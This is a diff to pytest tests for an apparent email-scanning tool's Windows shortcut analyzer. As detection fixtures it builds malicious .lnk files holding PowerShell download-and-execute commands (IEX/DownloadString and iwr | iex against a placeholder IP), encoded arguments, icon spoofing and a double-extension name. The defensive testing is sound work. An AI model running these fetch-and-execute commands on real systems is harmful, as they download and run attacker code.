@@ -6,8 +6,9 @@ import struct
 
 import pytest
 
-from coinguard.analyzers.lnk import LnkAnalyzer, obfuscation_signs, program_name
-from coinguard.findings import Finding, Item
+from coinguard.analyzers.lnk import LnkAnalyzer
+from coinguard.analyzers.lnk_common import obfuscation_signs, program_name
+from coinguard.findings import Finding, Item, Verdict
 
 from helpers import DATA, codes, read_corpus_sample, run_handler
 
@@ -62,7 +63,8 @@ def test_crafted_powershell_encoded_with_icon_spoof() -> None:
         icon=r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
     )
     findings, _ = run(data)
-    assert codes(findings) == {"lnk.present", "lnk.exec", "lnk.obfuscated_args", "lnk.icon_spoof"}
+    assert codes(findings) == {"lnk.present", "lnk.exec", "lnk.obfuscated_args", "lnk.command_args",
+                               "lnk.icon_spoof"}
 
 
 def test_crafted_padding_and_appended_payload() -> None:
@@ -89,3 +91,60 @@ def test_helpers() -> None:
     assert program_name(r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"') == "powershell"
     assert obfuscation_signs("%COMSPEC:~-16,1%") == ["env-var substring"]
     assert obfuscation_signs("readme.txt") == []
+
+
+# -- issue 11: graded by what the shortcut does -------------------------------------------------
+STRENGTHS = {c.code: c.strength for c in LnkAnalyzer.codes}
+
+
+@pytest.mark.parametrize(
+    ("target", "args", "icon", "conclusive"),
+    [
+        # an interpreter with a download cradle
+        (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+         "-nop -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.4/a')", "", {"lnk.exec"}),
+        # a program an earlier stage dropped in a staging folder, wearing a PDF icon
+        (r"C:\Users\Public\Documents\update.exe", "", r"C:\Program Files\Adobe\Acrobat\AcroRd32.exe",
+         {"lnk.exec_target", "lnk.staging_target", "lnk.icon_spoof"}),
+        (r"%APPDATA%\Microsoft\sync.dat", "", "", {"lnk.staging_target"}),
+        # an unknown program fed an encoded PowerShell command
+        (r"C:\Tools\helper", "-enc " + "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=" * 2, "", {"lnk.command_args"}),
+        (r"\\files.example\pub\invoice.pdf", "", "", {"lnk.remote_target"}),
+    ],
+)
+def test_a_shortcut_that_runs_something_is_conclusive(target: str, args: str, icon: str,
+                                                      conclusive: set[str]) -> None:
+    findings, _ = run(build_lnk(target, args=args, icon=icon))
+    got = {f.code for f in findings if STRENGTHS[f.code] == "conclusive"}
+    assert conclusive <= got, got
+
+
+def test_a_shortcut_to_a_local_document_is_weak_context() -> None:
+    findings, _ = run(build_lnk(r"C:\Users\kim\Documents\report.hwp"), "report.hwp.lnk")
+    assert codes(findings) == {"lnk.present"}
+    assert STRENGTHS["lnk.present"] is None  # weak at its score 4, conclusive if an admin raises it to 15
+    # a plain program the user has (Notepad) is a program all the same
+    assert "lnk.exec_target" in codes(run(build_lnk(r"C:\Windows\notepad.exe"))[0])
+
+
+def _scan(raw: bytes) -> Verdict:
+    from coinguard.config import parse_config
+    from coinguard.scan import ScanContext, scan_message
+
+    cfg = parse_config('[dkim]\nnameservers = ["127.0.0.1"]\ndns_port = 9\ndns_timeout_s = 0.05\n')
+    return scan_message(raw, ScanContext(config=cfg))
+
+
+def test_end_to_end_shortcut_verdicts() -> None:
+    from helpers import make_message, zip_bytes
+
+    evil = build_lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+                     args="-w hidden -c iwr http://203.0.113.4/p.ps1 | iex")
+    v = _scan(make_message(attachments=[("scan.zip", zip_bytes({"Invoice.pdf.lnk": evil}))]))
+    assert v.verdict == "malicious" and v.action == "quarantine", v.basis
+    found = {f.code for f in v.findings}
+    assert {"lnk.exec", "file.double_extension.runs"} <= found
+    benign = build_lnk(r"C:\Users\kim\Desktop\sample\sample.hwp")
+    v = _scan(make_message(attachments=[("sample.hwp.lnk", benign)]))
+    assert v.verdict == "clean", v.findings
+    assert {f.code for f in v.findings if f.score} == {"lnk.present"}
